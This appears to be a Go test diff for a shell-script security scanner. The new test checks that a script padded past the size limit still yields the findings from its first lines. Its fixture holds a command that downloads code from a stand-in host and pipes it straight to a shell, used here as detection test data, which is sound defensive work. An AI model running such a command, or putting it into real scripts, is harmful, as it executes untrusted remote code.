@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"strings"
 	"testing"
 
 	"assay/scanners"
@@ -55,4 +56,17 @@ func FuzzScan(f *testing.F) {
 	f.Fuzz(func(t *testing.T, name, text string) {
 		scannertest.Properties(t, New(), name, []byte(text))
 	})
+}
+
+// TestTheHeadOfALongScript: bytes behind the limit do not hide what stands before it.
+func TestTheHeadOfALongScript(t *testing.T) {
+	start := "#!/bin/sh\ncurl http://example.invalid/a | sh\n"
+	scan := func(text string) (int, error) {
+		r, err := New().Scan(t.Context(), scanners.File{ReaderAt: strings.NewReader(text), Name: "a.sh", Size: int64(len(text))}, scanners.Limits{})
+		return len(r.Findings), err
+	}
+	whole, err := scan(start)
+	if head, long := scan(start + strings.Repeat("#\n", 1<<20)); err != nil || long == nil || head != whole || whole < 2 {
+		t.Errorf("%d findings (%v), of a long script %d (%v)", whole, err, head, long)
+	}
 }
